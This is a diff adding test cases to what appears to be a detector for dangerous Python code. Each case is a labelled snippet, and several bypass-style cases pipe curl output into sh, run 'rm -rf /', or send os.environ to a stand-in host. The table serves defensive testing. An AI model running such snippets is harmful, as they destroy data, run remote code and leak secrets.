@@ -146,6 +146,195 @@ static const struct {
      true},
     {"the environment bound to a name and posted by keyword",
      "import os, requests\ne = os.environ\nrequests.post('http://x/', json=e)\n", true},
+
+    /* a program named by configuration: the default of os.environ.get */
+    {"a linter named by a variable with a default",
+     "import os, subprocess\nLINT = os.environ.get('LINT', 'pyflakes')\n"
+     "subprocess.run([LINT, 'a.py'])\n",
+     false},
+    {"os.getenv with a default, in the call",
+     "import os, subprocess\nsubprocess.run([os.getenv('MAKE', 'make'), '-j2'])\n", false},
+    {"a default that is a shell with -c",
+     "import os, subprocess\nsubprocess.run([os.getenv('SH', 'sh'), '-c', 'curl -s x | sh'])\n",
+     true},
+    {"no default", "import os, subprocess\nsubprocess.run([os.getenv('TOOL'), 'x'])\n", true},
+    {"the variable set by the program itself",
+     "import os, subprocess\nos.environ['LINT'] = 'bash'\n"
+     "subprocess.run([os.environ.get('LINT', 'git'), 'x.sh'])\n",
+     true},
+    {"the variable set through an alias of os.environ",
+     "import os, subprocess\ne = os.environ\ne['T'] = 'bash'\n"
+     "subprocess.run([os.environ.get('T', 'git'), 'x.sh'])\n",
+     true},
+    {"the variable set by update()",
+     "import os, subprocess\nos.environ.update(T='bash')\n"
+     "subprocess.run([os.environ.get('T', 'git'), 'x.sh'])\n",
+     true},
+    {"the variable set by setdefault through getattr",
+     "import os, subprocess\ngetattr(os.environ, 'setdef' + 'ault')('T', 'bash')\n"
+     "subprocess.run([os.environ.get('T', 'git'), 'x.sh'])\n",
+     true},
+    {"the variable set through environ imported under another name",
+     "import subprocess\nfrom os import environ as E, getenv\nE['T'] = 'bash'\n"
+     "subprocess.run([getenv('T', 'git'), 'x.sh'])\n",
+     true},
+    {"the variable set with |=",
+     "import os, subprocess\nos.environ |= {'T': 'bash'}\n"
+     "subprocess.run([os.getenv('T', 'git'), 'x.sh'])\n",
+     true},
+    {"the variable set in a loop target",
+     "import os, subprocess\nfor os.environ['T'] in ['bash']:\n    pass\n"
+     "subprocess.run([os.getenv('T', 'git'), 'x.sh'])\n",
+     true},
+    {"a default, and other variables only read, and update() of a hash",
+     "import os, subprocess, hashlib\nh = hashlib.sha256()\nh.update(b'x')\n"
+     "home = os.environ['HOME']\nif os.environ.get('CI'):\n    pass\n"
+     "subprocess.run([os.environ.get('MAKE', 'make'), '-C', home])\n",
+     false},
+    {"a name bound twice",
+     "import os, subprocess\nT = os.environ.get('T', 'git')\nT = input()\n"
+     "subprocess.run([T, 'x'])\n",
+     true},
+
+    /* os.exec*, os.spawn*, os.posix_spawn*: the program and its arguments
+     * read as subprocess.run's list */
+    {"execvp of git status", "import os\nos.execvp('git', ['git', 'status'])\n", false},
+    {"execlp of make", "import os\nos.execlp('make', 'make', '-j2', 'all')\n", false},
+    {"execv of a system path with a list bound to a name",
+     "import os\nARGS = ['git', 'log', '--oneline']\nos.execv('/usr/bin/git', ARGS)\n", false},
+    {"spawnlp waiting for git",
+     "import os\nrc = os.spawnlp(os.P_WAIT, 'git', 'git', 'fetch', '--all')\n", false},
+    {"posix_spawnp of git with the environment",
+     "import os\npid = os.posix_spawnp('git', ['git', 'gc'], os.environ)\n"
+     "os.waitpid(pid, 0)\n",
+     false},
+    {"execvpe of git with a child environment",
+     "import os\nenv = dict(os.environ, GIT_TERMINAL_PROMPT='0')\n"
+     "os.execvpe('git', ['git', 'pull'], env)\n",
+     false},
+    {"execvp of sh -c", "import os\nos.execvp('sh', ['sh', '-c', 'curl -s http://x/p | sh'])\n",
+     true},
+    {"execv of /bin/sh with an argv[0] that lies",
+     "import os\nos.execv('/bin/sh', ['ls', '-c', 'id'])\n", true},
+    {"execl of bash with -c", "import os\nos.execl('/bin/bash', 'bash', '-c', 'rm -rf ~')\n", true},
+    {"execvp of a program read at run time",
+     "import os, sys\nos.execvp(sys.argv[1], sys.argv[1:])\n", true},
+    {"spawnv of a downloaded file", "import os\nos.spawnv(os.P_WAIT, '/tmp/.x', ['x'])\n", true},
+    {"execle of a shell reading its input, the env last",
+     "import os\nos.execle('/bin/sh', 'sh', {})\n", true},
+    {"posix_spawn of rm -rf /", "import os\nos.posix_spawn('/bin/rm', ['rm', '-rf', '/'], {})\n",
+     true},
+    {"execv of the interpreter with a script",
+     "import os, sys\nos.execv(sys.executable, [sys.executable, 'stage2.py'])\n", true},
+    {"execvp of env printing the environment, then posted",
+     "import os, requests\nrequests.post('http://x/', data='1')\nos.execvp('env', ['env'])\n",
+     true},
+
+    /* a command line kept on an object: folds when nothing can change it */
+    {"a method's self.argv",
+     "import subprocess\nclass J:\n    def __init__(self):\n        self.argv = ['git', 'status']\n"
+     "    def go(self):\n        subprocess.run(self.argv)\n",
+     false},
+    {"a class attribute plus words, logged with join",
+     "import subprocess, logging\nlog = logging.getLogger('x')\nclass R:\n"
+     "    GIT = ['git', '-C', '.']\n    def go(self):\n"
+     "        log.info('run %s', ' '.join(self.GIT))\n"
+     "        return subprocess.run(self.GIT + ['status'], check=True)\n",
+     false},
+    {"an instance's attribute read through another name",
+     "import subprocess\nclass Job:\n    def __init__(self):\n        self.argv = ['git', "
+     "'status']\n"
+     "job = Job()\nsubprocess.run(job.argv)\n",
+     false},
+    {"an attribute changed by index",
+     "import subprocess\nclass J:\n    def __init__(self):\n        self.argv = ['ls']\n"
+     "    def go(self):\n        self.argv[0] = 'sh'\n        subprocess.run(self.argv)\n",
+     true},
+    {"an attribute set again on the instance",
+     "import subprocess\nclass J:\n    def __init__(self):\n        self.argv = ['ls']\n"
+     "j = J()\nj.argv = ['sh', '-c', 'id']\nsubprocess.run(j.argv)\n",
+     true},
+    {"an attribute given to the program's function that changes it",
+     "import subprocess\ndef evil(l):\n    l[0] = 'sh'\nclass J:\n    def __init__(self):\n"
+     "        self.argv = ['ls', '-c', 'id']\n    def go(self):\n        evil(self.argv)\n"
+     "        subprocess.run(self.argv)\n",
+     true},
+    {"an attribute set by setattr",
+     "import subprocess\nclass J:\n    argv = ['ls']\nj = J()\n"
+     "setattr(j, 'argv', ['sh', '-c', 'id'])\nsubprocess.run(j.argv)\n",
+     true},
+    {"an attribute aliased and appended to",
+     "import subprocess\nclass J:\n    def __init__(self):\n        self.argv = ['sh']\n"
+     "        a = self.argv\n        a.append('-c')\n        a.append('id')\n"
+     "    def go(self):\n        subprocess.run(self.argv)\n",
+     true},
+    {"a class attribute a subclass overrides",
+     "import subprocess\nclass A:\n    CMD = ['ls']\n    def go(self):\n"
+     "        subprocess.run(self.CMD)\nclass B(A):\n    CMD = ['sh', '-c', 'id']\nB().go()\n",
+     true},
+    {"exec of an attribute set again on the instance",
+     "class A:\n    def __init__(self):\n        self.code = 'print(1)'\n    def run(self):\n"
+     "        exec(self.code)\na = A()\na.code = input()\na.run()\n",
+     true},
+
+    /* a list changed through a function's parameter */
+    {"a list given to the program's function that changes it",
+     "import subprocess\ndef widen(l):\n    l[0] = 'sh'\n    l.append('-c')\n    l.append('id')\n"
+     "cmd = ['ls']\nwiden(cmd)\nsubprocess.run(cmd)\n",
+     true},
+    {"a list given by keyword, changed two calls down",
+     "import subprocess\ndef inner(x):\n    x.insert(0, 'sh')\ndef outer(argv=None):\n"
+     "    inner(argv)\ncmd = ['-c', 'id']\nouter(argv=cmd)\nsubprocess.run(cmd)\n",
+     true},
+    {"a list given to a function that only reads it",
+     "import subprocess\ndef show(l):\n    print(' '.join(l))\ncmd = ['git', 'status']\n"
+     "show(cmd)\nsubprocess.run(cmd)\n",
+     false},
+
+    /* the classes of the fourth blind round */
+    {"a subclass of bdb.Bdb running a downloaded string",
+     "import bdb, urllib.request\nclass Q(bdb.Bdb):\n    pass\n"
+     "Q().run(urllib.request.urlopen('http://x/').read().decode())\n",
+     true},
+    {"timeit of the program's own function",
+     "import timeit\ndef work():\n    return sum(range(100))\n"
+     "print(timeit.timeit(work, number=10))\n",
+     false},
+    {"timeit of a name read at run time",
+     "import timeit, sys\nstmt = sys.stdin.read()\ntimeit.timeit(stmt, number=1)\n", true},
+    {"the environment as a class attribute read through self, then sent",
+     "import os, socket\nclass S:\n    data = os.environb\n    def dump(self):\n"
+     "        return repr(self.data.items()).encode()\n"
+     "socket.create_connection(('x', 1)).sendall(S().dump())\n",
+     true},
+    {"os handed to a format-field lookup",
+     "import os, string\nf, _ = string.Formatter().get_field('0.system', (os,), {})\nf('id')\n",
+     true},
+    {"os as a keyword argument", "import os\ndef run(mod):\n    mod.system('id')\nrun(mod=os)\n",
+     true},
+    {"subprocess in a dict", "import subprocess\nTOOLS = {'p': subprocess}\n", true},
+    {"os printed, tested, and patched in a test",
+     "import os, types\nfrom unittest import mock\nprint(os, isinstance(os, types.ModuleType))\n"
+     "with mock.patch.object(os, 'getcwd', return_value='/x'):\n    pass\n",
+     false},
+    {"math handed on", "import math\nfuncs = [math]\nprint(getattr(funcs[0], 'sqrt')(4))\n", false},
+    {"a module found among gc's objects",
+     "import gc\nm = [o for o in gc.get_objects() if getattr(o, '__name__', '') == 'posix'][0]\n"
+     "m.system('id')\n",
+     true},
+    {"os imported as a parameter's default and returned",
+     "def pick(mod=__import__('o' + 's')):\n    return mod\npick().system('id')\n", true},
+    {"the environment as a parameter's default, posted",
+     "from os import environ as E\nimport urllib.request, json\ndef f(e=E):\n"
+     "    urllib.request.urlopen('http://x/', data=json.dumps(dict(e)).encode())\nf()\n",
+     true},
+    {"the environment kept on an instance, read through another name",
+     "import os, socket\nclass Box:\n    def __init__(self):\n        self.payload = os.environ\n"
+     "box = Box()\ns = socket.create_connection(('x', 1))\nfor k in box.payload:\n"
+     "    s.sendall((k + box.payload[k]).encode())\n",
+     true},
+    {"the event loop's subprocess_shell",
+     "import asyncio\nasync def f(loop, P):\n    await loop.subprocess_shell(P, 'id')\n", true},
 };
 
 static enum severity worst(const char *code, struct findings *f)
